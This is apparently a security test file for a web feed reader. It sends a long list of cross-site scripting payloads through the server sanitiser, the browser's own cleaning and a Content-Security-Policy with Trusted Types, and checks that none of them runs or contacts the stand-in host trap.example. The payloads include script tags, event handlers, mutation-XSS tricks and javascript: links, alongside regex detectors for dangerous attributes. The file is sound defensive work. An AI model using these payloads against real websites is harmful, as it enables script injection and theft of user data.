// Three layers stand between a hostile item and the reader: the server's sanitiser, the browser's own cleaning, the Content-Security-Policy with Trusted
// Types. Each is tried here: all together through the server, the browser's with the server's taken away, and the policy with both taken away.
import assert from 'node:assert/strict';
import { after, test } from 'node:test';
import { accessible, fill, openReader, rows, someSources, startWeir, stopBrowser, until } from './weir.mjs';

after(stopBrowser);

// Each would call canary(), or ask the trap for something, when it ran.
const TRAP = 'https://trap.example';
const RUN = 'window.canary()';
const PAYLOADS = [
  `<script>${RUN}</script>`, `<script src="${TRAP}/s.js"></script>`, `<img src=x onerror="${RUN}">`, `<img src="${TRAP}/i.png" onload="${RUN}" onerror="${RUN}">`,
  `<svg onload="${RUN}"><script>${RUN}</script></svg>`, `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`, `<svg><foreignObject><img src=x onerror="${RUN}"></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<math><annotation-xml encoding="text/html"><script>${RUN}</script></annotation-xml></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`, `<template><script>${RUN}</script></template>`, `<style>@import "${TRAP}/c.css"; *{background:url(${TRAP}/b)}</style>`,
  `<p style="background:url(${TRAP}/p)">styled</p>`, `<link rel=stylesheet href="${TRAP}/l.css">`, `<link rel=prefetch href="${TRAP}/pre">`, `<base href="${TRAP}/">`, `<meta http-equiv=refresh content="0;url=${TRAP}/m">`,
  `<iframe src="javascript:${RUN}"></iframe>`, `<iframe srcdoc="<script>parent.canary()</script>"></iframe>`, `<iframe src="${TRAP}/f"></iframe>`, `<object data="${TRAP}/o"></object>`, `<embed src="${TRAP}/e">`,
  `<a href="javascript:${RUN}" id=go>press me</a>`, `<a href=" java&#10;script:${RUN}">press me</a>`, `<a href="data:text/html,<script>${RUN}</script>">press me</a>`, `<a href="https://ok.example/" ping="${TRAP}/ping" onclick="${RUN}" target=_self>fine</a>`,
  `<form action="${TRAP}/post"><input name=password autofocus onfocus="${RUN}"><button formaction="javascript:${RUN}">press me</button></form>`, `<details open ontoggle="${RUN}"><summary>s</summary>d</details>`,
  `<video src="${TRAP}/v" autoplay onplay="${RUN}" poster="${TRAP}/poster"></video>`, `<audio src="${TRAP}/a" autoplay onerror="${RUN}"></audio>`, `<body onload="${RUN}">`, `<marquee onstart="${RUN}">m</marquee>`,
  `<div id="app"></div><div id="search"></div><img name="cookie" src=x><form id=location></form>`, `<input onfocus="${RUN}" autofocus>`, `<table background="${TRAP}/t"><td background="${TRAP}/td">`,
  `<img srcset="${TRAP}/set 1x" src="data:image/svg+xml,<svg onload='${RUN}' xmlns='http://www.w3.org/2000/svg'/>">`, `<image src=x onerror="${RUN}">`, `<picture><source srcset="${TRAP}/pic"><img src=x onerror="${RUN}"></picture>`,
  `<dialog open>over everything</dialog>`, `<div popover=auto style="position:fixed;inset:0">x</div>`, `<xmp><img src=x onerror="${RUN}"></xmp>`, `<plaintext><img src=x onerror="${RUN}">`,
  `<select><option><style></option></select><img src=x onerror="${RUN}"></style>`, `<p><b><i><u><a><table><p onmouseover="${RUN}">nested`, `${'<div>'.repeat(3000)}deep${'</div>'.repeat(3000)}`, '<b>'.repeat(500) + 'bold',
];
const AS_TEXT = `<img src=x onerror="${RUN}"><script>${RUN}</script>"'><svg onload=${RUN}>`;

const hostileItems = () => PAYLOADS.map((html, i) => ({
  id: `hostile-${i}`, title: `${i} ${AS_TEXT}`, url: i % 3 ? 'https://ok.example/x' : `javascript:${RUN}`, content_html: `<p>before</p>${html}<p>after</p>`, summary: AS_TEXT, language: '"><x',
  authors: [{ name: AS_TEXT, url: `javascript:${RUN}` }], tags: [AS_TEXT], image: `javascript:${RUN}`, attachments: [{ url: `javascript:${RUN}`, mime_type: 'text/html' }, { url: 'https://ok.example/a.mp3', mime_type: AS_TEXT }],
}));

async function watched(t, weir) {
  const page = await openReader(t, weir);
  page.ran = 0;
  await page.context().exposeBinding('canary', () => page.ran++);
  await page.reload();
  await rows(page).first().waitFor();
  return page;
}

// Opens every item on every surface, touches what it offers, and sees that nothing ran and nothing was asked for.
async function walk(page, count) {
  let seen = 0;
  for (let i = 0; i < count; i++) {
    await page.keyboard.press('j');
    await page.locator('.article h2').waitFor();
    seen += await page.locator('.body').innerText().then((text) => Number(text.includes('before')));
    const found = await page.locator('section.article').evaluate((article) => [...article.querySelectorAll('*')].flatMap((node) => [
      ...(/^(script|style|iframe|object|embed|form|input|select|svg|math|template|link|meta|base|video|audio|dialog|noscript)$/i.test(node.localName) ? [node.localName] : []),
      ...[...node.attributes].filter((one) => /^on|^style$|^ping$|^srcdoc$|^srcset$|^formaction$|^background$|^popover$|^autofocus$/i.test(one.name) || /^\s*(javascript|data|vbscript):/i.test(one.value)).map((one) => `${node.localName} ${one.name}=${one.value}`),
      ...(node.localName === 'a' && node.target === '_blank' && !/noopener/.test(node.rel) ? ['a without noopener'] : []),
      ...(node.localName === 'img' && (node.loading !== 'lazy' || node.referrerPolicy !== 'no-referrer') ? ['img that is not lazy or tells where it is'] : []),
    ]));
    assert.deepEqual(found, [], `item ${i}: ${await page.locator('.article h2').innerText()}`);
    for (const link of await page.locator('.body a').all()) if (/press me/.test(await link.innerText())) await link.click({ force: true, timeout: 1000 }).catch(() => {});
    await page.locator('.body').hover({ force: true }).catch(() => {});
  }
  assert.equal(seen, count, 'every article was on show');
  assert.equal(page.ran, 0, 'something ran');
  assert.equal(await page.evaluate(() => location.pathname), '/');
  assert.deepEqual(page.watch.outside, []);
  for (const url of page.watch.images) assert.ok(!/trap\.example\/(?!i\.png$|set$|pic$)/.test(url), `asked for ${url}`);
}

test('hostile items through the server, on every surface', async (t) => {
  const weir = await startWeir(t);
  const hostile = hostileItems();
  await fill(weir, [{ title: `Evil ${AS_TEXT}`, folder: `Folder ${AS_TEXT}`, items: hostile }]);
  const page = await watched(t, weir);
  await walk(page, hostile.length);
  await page.goto(`${weir.base}/#/all?order=ranked&state=all`);
  await page.locator('.rows .why summary').first().click();
  await page.locator('.rows .why > div').first().waitFor();
  await page.keyboard.press('/');
  await page.locator('#search').fill(AS_TEXT);
  await page.keyboard.press('Enter');
  await page.locator('.list h2', { hasText: 'onerror' }).waitFor();
  await page.goto(`${weir.base}/#/folder/${encodeURIComponent(AS_TEXT)}?q=${encodeURIComponent(AS_TEXT)}&order=<script>&state="'`);
  await page.getByRole('button', { name: 'Add', exact: true }).click();
  await page.getByLabel('Address of a feed').fill(`javascript:${RUN}`);
  await page.keyboard.press('Enter');
  await page.locator('#add-problem', { hasText: /\S/ }).waitFor();
  await page.keyboard.press('Escape');
  await page.getByRole('dialog').waitFor({ state: 'detached' });
  await page.keyboard.press('g');
  await page.keyboard.press('s');
  await page.locator('.settings h2').waitFor();
  await page.waitForTimeout(300);
  assert.equal(page.ran, 0);
});

test('the browser\'s cleaning alone: raw HTML instead of the server\'s', async (t) => {
  const weir = await startWeir(t);
  const hostile = hostileItems();
  await fill(weir, [{ title: 'Evil', items: hostile }]);
  const page = await watched(t, weir);
  const raw = new Map(hostile.map((item) => [item.id, item]));
  await page.route('**/api/items?**', async (route) => {
    const answer = await route.fetch();
    const body = await answer.json();
    body.items = body.items.map((item) => ({ ...item, ...raw.get(item.id) }));
    await route.fulfill({ response: answer, json: body });
  });
  await page.reload();
  await rows(page).first().waitFor();
  await page.keyboard.press('j');
  await until(async () => (await page.locator('.meta').last().innerText()).includes('<img'), 3000, () => 'the raw items are not on show');
  await page.keyboard.press('k');
  await page.keyboard.press('Escape');
  await page.reload();
  await rows(page).first().waitFor();
  await walk(page, hostile.length);
  await accessible(page, 'a hostile article');
  // The document that Chromium parses into is inert, and still reports the handlers that it would not have run. What counts is above: none is on show.
  page.watch.violations.length = 0;
  page.watch.errors = page.watch.errors.filter((error) => !/violates the following Content Security Policy/.test(error));
});

test('the policy alone: no script, no HTML from strings, nothing to elsewhere', async (t) => {
  const weir = await startWeir(t);
  await fill(weir, someSources(2));
  const page = await watched(t, weir);
  const tried = await page.evaluate(async (trap) => {
    const refuses = (work) => {
      try {
        work();
        return false;
      } catch (error) {
        return error instanceof TypeError || error instanceof EvalError;
      }
    };
    const body = document.body;
    const out = {
      innerHTML: refuses(() => (body.innerHTML = '<img src=x onerror=canary()>')),
      outerHTML: refuses(() => (body.lastElementChild.outerHTML = '<p>x</p>')),
      insertAdjacentHTML: refuses(() => body.insertAdjacentHTML('beforeend', '<img src=x onerror=canary()>')),
      write: refuses(() => document.write('<script>canary()</' + 'script>')),
      parser: refuses(() => new DOMParser().parseFromString('<p>x</p>', 'text/html')),
      fragment: refuses(() => document.createRange().createContextualFragment('<p>x</p>')),
      frame: refuses(() => (document.createElement('iframe').srcdoc = '<p>x</p>')),
      text: refuses(() => (document.createElement('script').textContent = 'canary()')),
      source: refuses(() => (document.createElement('script').src = `${trap}/s.js`)),
      policy: refuses(() => trustedTypes.createPolicy('evil', { createHTML: (html) => html })),
    };
    const add = (name, attributes) => {
      const node = document.createElement(name);
      for (const [key, value] of Object.entries(attributes)) node.setAttribute(key, value);
      body.append(node);
      return node;
    };
    const may = (work) => {   // either the API refuses, or the policy stops what it does
      try {
        work();
      } catch (error) {
        if (!(error instanceof TypeError)) throw error;
      }
    };
    may(() => add('img', { src: '/no-such-image', onerror: 'canary()' }));
    may(() => add('style', {}).append(`@import "${trap}/c.css"`));
    may(() => add('link', { rel: 'stylesheet', href: `${trap}/l.css` }));
    may(() => add('iframe', { src: `${trap}/f` }));
    may(() => add('object', { data: `${trap}/o` }));
    may(() => add('p', { style: `background: url(${trap}/p)` }));
    may(() => add('base', { href: `${trap}/` }));
    await new Promise((done) => setTimeout(done));   // out of the debugger's own call, which may evaluate
    out.evaluate = refuses(() => (0, eval)('canary()'));
    out.construct = refuses(() => new Function('canary()'));
    out.fetch = await fetch(`${trap}/x`).then(() => false, () => true);
    out.base = document.baseURI.startsWith(location.origin);
    const form = add('form', { action: `${trap}/post`, method: 'post' });
    form.submit();
    const jump = add('a', { href: 'javascript:canary()' });
    jump.click();
    await new Promise((done) => setTimeout(done, 300));
    return out;
  }, TRAP);
  for (const [name, held] of Object.entries(tried)) assert.equal(held, true, `${name} was let through`);
  assert.equal(page.ran, 0, 'something ran');
  assert.deepEqual(page.watch.outside, [], 'something was asked for elsewhere');
  assert.ok(page.watch.violations.length >= 12, `the policy saw ${page.watch.violations.length}`);
  page.watch.violations.length = 0;   // these were meant
  page.watch.errors.length = 0;
});

test('what the pages are served with', async (t) => {
  const weir = await startWeir(t);
  for (const path of ['/', '/login']) {
    const { headers } = await fetch(weir.base + path);
    const policy = headers.get('content-security-policy');
    assert.match(policy, /default-src 'none'/);
    assert.match(policy, /require-trusted-types-for 'script'/);
    assert.match(policy, /trusted-types weir(;|$)/);
    assert.doesNotMatch(policy, /unsafe|script-src[^;]*(https?:|\*|data:)/);
    assert.match(policy, /frame-ancestors 'none'/);
    assert.equal(headers.get('x-content-type-options'), 'nosniff');
    const html = await (await fetch(weir.base + path)).text();
    assert.doesNotMatch(html, /\son\w+=|\sstyle=|<style|<script(?![^>]*\ssrc=)/i, 'something is inline');
    for (const [, asset] of html.matchAll(/(?:src|href)="(\/assets\/[^"]+)"/g)) {
      const answer = await fetch(weir.base + asset, { headers: { 'accept-encoding': 'br' } });
      assert.equal(answer.status, 200, asset);
      assert.equal(answer.headers.get('content-encoding'), 'br', asset);
      assert.match(answer.headers.get('cache-control'), /immutable/, asset);
    }
  }
});
